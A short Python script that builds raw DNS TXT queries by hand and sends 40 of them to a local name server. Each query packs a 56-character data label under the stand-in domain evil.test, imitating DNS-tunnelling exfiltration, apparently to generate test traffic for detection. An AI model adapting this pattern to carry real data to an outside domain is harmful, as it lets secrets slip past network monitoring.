"""Asks a name server for many names that carry data."""

import socket

with socket.socket(type=socket.SOCK_DGRAM) as client:
    for number in range(40):
        label = bytes([56]) + b"%056d" % number
        client.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0" + label + b"\4evil\4test\0\0\x10\0\1", ("127.0.0.1", 53))
